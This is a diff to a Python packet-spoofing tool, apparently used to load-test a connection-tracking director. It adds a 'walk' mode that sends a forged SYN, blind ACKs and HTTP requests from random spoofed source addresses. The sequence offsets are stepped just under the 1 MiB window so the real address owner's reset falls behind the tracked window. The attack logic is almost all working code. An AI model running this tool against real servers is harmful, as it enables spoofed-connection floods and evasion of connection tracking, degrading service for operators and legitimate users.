@@ -13,6 +13,15 @@ Each spoofed connection, from a source it never receives anything at:
                             by a segment each time, as if the server were sending a response
                    t=1 s, 3 s  the SYN again, same ISN, as a kernel retransmits it
                  9 packets a connection.
+  --mode walk    the attacker who read the director's sequence window (1 MiB each way):
+                   t=0      the same SYN
+                   t=1 ms   a blind ACK, a blind ACK "progress" (one segment on), then three blind
+                            requests each starting one byte inside the window ahead of where the
+                            last ended, so the tracked sequence number is 3 MiB on and the reset the
+                            address's owner sends for the server's SYN-ACK (sequence ISN+1) falls
+                            behind the window
+                   t=1 s, 3 s  the SYN again
+                 8 packets a connection.
 Sources:
   default                random unicast addresses outside 0/8, 10/8, 127/8 and 224/3
   --cidr A.B.C.D/N       random hosts inside that prefix (a priority-0 rule's, say)
@@ -48,6 +57,10 @@ DATA_AT = 0.055
 PROGRESS_AT = (0.5, 1.5, 2.5, 3.5)
 SYN_AGAIN_AT = (1.0, 3.0)
 MSS = 1448
+# walk mode: the follow-ups' offset, and how far past the tracked sequence number each walking
+# segment starts (the director's window, 1 MiB, less a byte).
+WALK_AT = 0.001
+WALK_STEP = (1 << 20) - 1
 
 
 def syn_options(ts: int) -> bytes:
@@ -107,7 +120,7 @@ def main() -> int:
     ap.add_argument("--dst", required=True)
     ap.add_argument("--port", type=int, default=80)
     ap.add_argument("--rate", type=float, required=True, help="spoofed connections per second")
-    ap.add_argument("--mode", choices=("ack", "kernel"), default="kernel")
+    ap.add_argument("--mode", choices=("ack", "kernel", "walk"), default="kernel")
     ap.add_argument("--delay-ms", type=float, default=50.0, help="ack mode: the blind ACK's delay")
     ap.add_argument("--cidr")
     ap.add_argument("--sources-file")
@@ -133,6 +146,10 @@ def main() -> int:
     kinds = []
     if args.mode == "ack":
         kinds.append(("ack", args.delay_ms / 1000.0))
+    elif args.mode == "walk":
+        kinds.append(("walk", WALK_AT))
+        for at in SYN_AGAIN_AT:
+            kinds.append(("syn", at))
     else:
         kinds.append(("ack", ACK_AT))
         kinds.append(("data", DATA_AT))
@@ -158,6 +175,15 @@ def main() -> int:
             send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, guess, 0x10, b"", b"", ident[0]))
         elif kind == "data":
             send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, guess, 0x18, b"", HTTP_REQUEST, ident[0]))
+        elif kind == "walk":
+            send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, guess, 0x10, b"", b"", ident[0]))
+            send(packet(src, dst, sport, args.port, (isn + 1) & 0xFFFFFFFF, (guess + MSS) & 0xFFFFFFFF, 0x10, b"", b"", ident[0]))
+            off = 0
+            for _ in range(3):
+                off += WALK_STEP
+                seq = (isn + 1 + off) & 0xFFFFFFFF
+                send(packet(src, dst, sport, args.port, seq, (guess + MSS) & 0xFFFFFFFF, 0x18, b"", HTTP_REQUEST, ident[0]))
+                off += payload_len
         elif kind == "syn":
             send(packet(src, dst, sport, args.port, isn, 0, 0x02, syn_options(rng.getrandbits(32)), b"", ident[0]))
         else:
